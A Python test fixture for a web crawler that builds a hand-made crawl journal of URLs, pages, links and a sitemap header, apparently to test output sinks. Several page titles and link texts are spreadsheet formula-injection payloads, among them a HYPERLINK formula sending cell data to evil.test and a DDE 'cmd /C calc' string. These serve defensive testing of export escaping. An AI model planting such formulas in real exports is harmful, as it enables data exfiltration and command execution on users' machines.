"""A small crawl made by hand in a journal: every kind of URL that a sink can meet, and what the web may put in it."""

from __future__ import annotations

import zlib
from array import array
from collections.abc import Iterator
from contextlib import closing, contextmanager

from crawlr.journal import Journal
from crawlr.known import FAR, Flag
from crawlr.parse.links import KINDS
from crawlr.records import StopReason
from crawlr.view import CrawlView

SITE = "https://site.test"
HTML = "text/html; charset=utf-8"
IN = Flag.IN_SCOPE | Flag.FOLLOWED
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click, here")'
MODIFIED = "Tue, 03 Feb 2026 10:20:30 GMT"

# id, url, depth, parent, flags
URLS = [
    (0, f"{SITE}/", 0, None, IN | Flag.SEED),
    (1, f"{SITE}/a?x=1&y='2'", 1, 0, IN | Flag.IN_SITEMAP),
    (2, f"{SITE}/old", 1, 0, IN),
    (3, f"{SITE}/missing", 1, 0, IN),
    (4, f"{SITE}/private", 1, 0, IN),
    (5, f"{SITE}/deep", 3, 1, IN),
    (6, f"{SITE}/hidden", 1, 0, IN),
    (7, f"{SITE}/copy", 1, 0, IN),
    (8, f"{SITE}/folder/sub/file.pdf", 1, 0, IN),
    (9, "https://other.test/", 1, 0, 0),
    (10, f"{SITE}/down", 1, 0, IN),
    (11, f"{SITE}/never-reached", FAR, None, 0),
    (12, f"{SITE}/late", 2, 1, IN),
    (13, f"{SITE}/nofollowed", 2, 1, Flag.IN_SCOPE),
    (14, f"{SITE}/older", 1, 0, IN),
]
SKIPPED = [(4, "robots_disallowed", "Disallow: /private")]


def kind(name: str, *, nofollow: bool = False) -> int:
    return KINDS.index(name) << 1 | (not nofollow)


# source: (target, kind, text) of each link, in document order
LINKS = {
    0: [
        (1, kind("a"), "A & <b>"),
        (2, kind("a"), ""),
        (3, kind("a", nofollow=True), "=1+1"),
        (4, kind("area"), "private"),
        (6, kind("iframe"), ""),
        (7, kind("a"), "Kopie – „neu“"),
        (8, kind("a"), "pdf"),
        (9, kind("a", nofollow=True), "other"),
        (10, kind("refresh"), ""),
        (14, kind("a"), "older"),
    ],
    1: [(0, kind("a"), "home"), (5, kind("a"), "deep"), (12, kind("a"), "late"), (13, kind("a", nofollow=True), "x")],
    7: [(0, kind("a"), "home"), (1, kind("a"), "original")],
}  # fmt: skip


def page(
    number: int,
    *,
    status: int | None = 200,
    outcome: str = "ok",
    error: str | None = None,
    content_type: str | None = HTML,
    title: str | None = None,
    canonical: str | None = None,
    robots: str = "",
    redirect_to: int | None = None,
    redirect_url: str | None = None,
    last_modified: str | None = None,
) -> tuple[object, ...]:
    links = LINKS.get(number, [])
    return (
        number,
        status,
        outcome,
        error,
        len(links),
        10 * number + 5,
        0 if status is None else 1000 + number,
        content_type,
        "utf-8" if links else None,
        title,
        canonical,
        robots,
        redirect_to,
        redirect_url,
        1,
        array("I", [target for target, _, _ in links]).tobytes() or None,
        bytes(kind for _, kind, _ in links) or None,
        -number if links else None,
        last_modified,
    )


PAGES = [
    page(0, title="Home – „quoted“, with a comma", last_modified=MODIFIED),
    page(1, title=FORMULA, canonical=f"{SITE}/a?x=1&y=%272%27", last_modified="yesterday"),
    page(2, status=301, outcome="redirect", content_type=None, redirect_to=1, redirect_url=f"{SITE}/a?x=1&y='2'"),
    page(3, status=404, outcome="http_error", title="-1+cmd|' /C calc'!A0"),
    page(6, robots="nofollow noindex", title="\t=tabbed"),
    page(7, canonical=f"{SITE}/a?x=1&y='2'", title="@SUM(A1)"),
    page(8, outcome="not_html", content_type="application/pdf"),
    page(10, status=None, outcome="refused", error="connection refused", content_type=None),
    page(14, status=302, outcome="redirect", content_type=None, redirect_to=2, redirect_url=f"{SITE}/old"),
]


@contextmanager
def made_view(
    *,
    all_edges: bool = False,
    has_sitemaps: bool = False,
    with_texts: bool = True,
    extra: list[tuple[str, tuple[object, ...]]] | None = None,
) -> Iterator[CrawlView]:
    """The view of the crawl above. `extra` are further (url, page) of depth 1, whose ids follow those above."""
    with closing(made_journal("", with_texts=with_texts, extra=extra)) as journal:
        yield CrawlView(
            journal,
            stop_reason=StopReason.PAGE_BUDGET,
            depth_limit=2,
            all_edges=all_edges,
            has_sitemaps=has_sitemaps,
        )


def made_journal(
    path: str,
    *,
    with_texts: bool = True,
    extra: list[tuple[str, tuple[object, ...]]] | None = None,
    meta: dict[str, object] | None = None,
) -> Journal:
    journal = Journal.create(path, meta or {})
    more = [(number, url, 1, 0, IN) for number, (url, _) in enumerate(extra or (), len(URLS))]
    journal.commit(
        urls=[(number, url, None, depth, parent, 0, 0, flags) for number, url, depth, parent, flags in [*URLS, *more]],
        pages=[*PAGES, *(row for _, row in extra or ())],  # type: ignore[list-item]  # rows are made by hand here
        skipped=SKIPPED,
        texts=[
            (source, zlib.compress("\n".join(text for _, _, text in links).encode()))
            for source, links in LINKS.items()
            if with_texts
        ],
    )
    return journal


HEAD: dict[str, object] = {
    "format": "crawlr-sitemap/1",
    "generator": "crawlr 0.1.0",
    "seeds": [f"{SITE}/"],
    "started_at": "2026-01-31T12:00:00Z",
    "finished_at": "2026-01-31T12:01:00Z",
    "complete": False,
    "stop_reason": "page_budget",
    "options": {"depth": 2, "edges": "in-scope"},
    "stats": {"pages": 9, "ok": 7, "errors": 2, "skipped": 2, "unique_urls": 13, "edges": 15, "elapsed_s": 60.0},
}
